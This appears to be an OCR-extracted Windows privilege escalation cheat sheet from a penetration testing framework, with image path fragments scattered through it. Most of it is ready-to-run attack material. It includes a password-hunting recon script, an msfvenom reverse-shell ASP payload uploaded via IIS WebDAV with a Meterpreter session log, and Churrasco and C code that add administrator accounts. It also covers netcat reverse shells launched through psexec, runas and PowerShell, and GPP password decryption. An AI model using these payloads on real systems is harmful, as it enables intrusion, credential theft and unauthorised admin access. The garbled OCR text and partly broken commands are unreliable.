Lockdoor Framework

A Penetration Testing Framework

View on GitHub

Windows Privilege Escalation resourcehttp://www.fuzzysecurity.com/tutorials/16.html

Metasploit Meterpreter Privilege Escalation Guide https://www.offensive-security.com/metasploit-unleashed/privilege-escalation/

Try the obvious - Maybe the user is SYSTEM or is already part of the Administrator group:


`net user "%username%"`

Try the getsystem command using meterpreter - rarely works but is worth a try. meterpreter > getsystem

No File Upload Required Windows Privlege Escalation Basic Information Gathering (based on the fuzzy security tutorial and windows_privesc_check.py).

      Copy and paste the following contents into your remote Windows shell in Kali to generate a quick report:

@echo --- BASIC WINDOWS RECON --- > report.txt timeout 1 net config Workstation >> report.txt timeout 1 systeminfo | findstr /B /C:"OS Name" /C:"OS Version" >> report.txt timeout 1 hostname >> report.txt timeout 1 net users >> report.txt timeout 1 ipconfig /all >> report.txt timeout 1 route print >> report.txt timeout 1 arp -A >> report.txt timeout 1 netstat -ano >> report.txt timeout 1 netsh firewall show state >> report.txt timeout 1 netsh firewall show config >> report.txt timeout 1 schtasks /query /fo LIST /v >> report.txt timeout 1 tasklist /SVC >> report.txt timeout 1 net start >> report.txt timeout 1 DRIVERQUERY >> report.txt timeout1 reg query HKLM\SOFTWARE\Policies\Microsoft\Windows\Installer\AlwaysInstallElevated >> report.txt timeout 1 reg query HKCU\SOFTWARE\Policies\Microsoft\Windows\Installer\AlwaysInstallElevated >> report.txt timeout 1 dir /s pass == cred == vnc == .config >> report.txt timeout 1 findstr /si password *.xml *.ini *.txt >> report.txt timeout 1 reg query HKLM /f password /t REG_SZ /s >> report.txt timeout 1 reg query HKCU /f password /t REG_SZ /s >> report.txt timeout 1 dir "C:" timeout 1 dir "C:\Program Files" >> report.txt timeout 1 dir "C:\Program Files (x86)" timeout 1 dir "C:\Users" timeout 1 dir "C:\Users\Public" timeout 1 echo REPORT COMPLETE!

Windows Server 2003 and IIS 6.0 WEBDAV Exploiting http://www.r00tsec.com/2011/09/exploiting-microsoft-iis-version-60.html

msfvenom -p windows/meterpreter/reverse_tcp LHOST= LPORT=443 -f asp > aspshell.txt

cadavar http://$ip dav:/> put aspshell.txt Uploading aspshell.txt to /aspshell.txt': Progress: [===>] 100.0% of 38468 bytes succeeded. dav:/> copy aspshell.txtaspshell3.asp;.txt Copying/aspshell3.txt' to `/aspshell3.asp%3b.txt': succeeded. dav:/> exit

msf > use exploit/multi/handler msf exploit(handler) > set payload windows/meterpreter/reverse_tcp msf exploit(handler) > set LHOST msf exploit(handler) > set LPORT 80 msf exploit(handler) > set ExitOnSession false msf exploit(handler) > exploit -j

curl http://$ip/aspshell3.asp;.txt

[] Started reverse TCP handler on [] Starting the payload handler... [] Sending stage(957487 bytes) to [] Meterpreter session 1 opened ( -> at 2017-09-25 13:10:55 -0700

Compile Windows privledge escalation exploits using pyinstaller.py into an executable Windows privledge escalation exploits are often written in Python. So, it is necessary to compile them using pyinstaller.py into an executable and upload them to the remote server. pip install pyinstaller wget -O exploit.py http://www.exploit-db.com/download/31853 python pyinstaller.py --onefile exploit.py

Windows Server 2003 and IIS 6.0 privledge escalation using impersonation:



c:\Inetpub>churrasco churrasco /churrasco/-->Usage: Churrasco.exe [-d] "command to run"

c:\Inetpub>churrasco -d "net user /add " c:\Inetpub>churrasco -d "net localgroup administrators /add" c:\Inetpub>churrasco -d "NET LOCALGROUP "Remote Desktop Users" /ADD"

Windows MS11-080 - http://www.exploit-db.com/exploits/18176/ python pyinstaller.py --onefile ms11-080.py mx11-080.exe -O XP

Powershell Exploits You may find that some Windows privledge escalation exploits are written in Powershell. You may not have an interactive shell that allows you to enter the powershell prompt. Once the powershell script is uploaded to the server, here is a quick one liner to run a powershell command from a basic (cmd.exe) shell:

        MS16-032 https://www.exploit-db.com/exploits/39719/

powershell -ExecutionPolicy ByPass -command "& { . C:\Users\Public\Invoke-MS16-032.ps1;Invoke-MS16-032 }"

Powershell Priv Escalation Tools https://github.com/PowerShellMafia/PowerSploit/tree/master/Privesc

Windows Run As Switching users in linux is trival with the SU command. However, an equivalent command does not exist in Windows. Here are 3 ways to run a command as a different user in Windows.

Sysinternals psexec is a handy tool for running a command on a remote or local server as a specific user, given you have thier username and password. The following example creates a reverse shell from a windows server to our Kali box using netcat for Windows and Psexec (on a 64 bit system).

C:>psexec64 \COMPUTERNAME -u Test -p test -h "c:\users\public\nc.exe -nc 4444 -e cmd.exe"PsExec v2.2 - Execute processes remotely opyright (C) 2001-2016 Mark Russinovich Sysinternals - www.sysinternals.com

Runas.exe is a handy windows tool that allows you to run a program as another user so long as you know thier password. The following example creates a reverse shell from a windows server to our Kali box using netcat for Windows and Runas.exe: C:>C:\Windows\System32\runas.exe /env /noprofile /user:Test "c:\users\public\nc.exe -nc 4444 -e cmd.exe" Enter the password for Test: Attempting to start nc.exe as user "COMPUTERNAME\Test" ...

PowerShell can also be used to launch a process as another user. The following simple powershell script will run a reverse shell as the specified username and password. $username = '' $password = ''$securePassword = ConvertTo-SecureString $password -AsPlainText -Force $credential = New-Object System.Management.Automation.PSCredential $username, $securePassword Start-Process -FilePath C:\Users\Public\nc.exe -NoNewWindow -Credential $credential -ArgumentList ("-nc","","4444","-e","cmd.exe") -WorkingDirectory C:\Users\Public

    Next run this script using powershell.exe:
`powershell -ExecutionPolicy ByPass -command "& { . C:\Users\public\PowerShellRunAs.ps1; }"`

Windows Service Configuration Viewer - Check for misconfigurations in services that can lead to privilege escalation. You can replace the executable with your own and have windows execute whatever code you want as the privileged user. icacls scsiaccess.exe


Compile a custom add user command in windows using C root@kali:~# cat useradd.c #include /* system, NULL, EXIT_FAILURE */ int main () { int i; i=system ("net localgroup administrators low /add"); return 0; }

  `i686-w64-mingw32-gcc -o scsiaccess.exe useradd.c`

Group Policy Preferences (GPP) A common useful misconfiguration found in modern domain environments is unprotected Windows GPP settings files

map the Domain controller SYSVOL share net use z:\\dc01\SYSVOL

Find the GPP file: Groups.xml dir /s Groups.xml

Review the contents for passwords type Groups.xml

Decrypt using GPP Decrypt gpp-decryptriBZpPtHOGtVk+SdLOmJ6xiNgFH6Gp45BoP3I6AnPgZ1IfxtgI67qqZfgh78kBZB

Find and display the proof.txt or flag.txt - get the loot! #meterpreter > run post/windows/gather/win_privs cd\ & dir /b /s proof.txt type c:\pathto\proof.txt

Other Useful links Fuzzy Security - Windows Privilege Escalation GDSSecurity - Windows Exploit Suggester Xapax -Privilege Escalation bhafsec -Windows Privilege Escalatio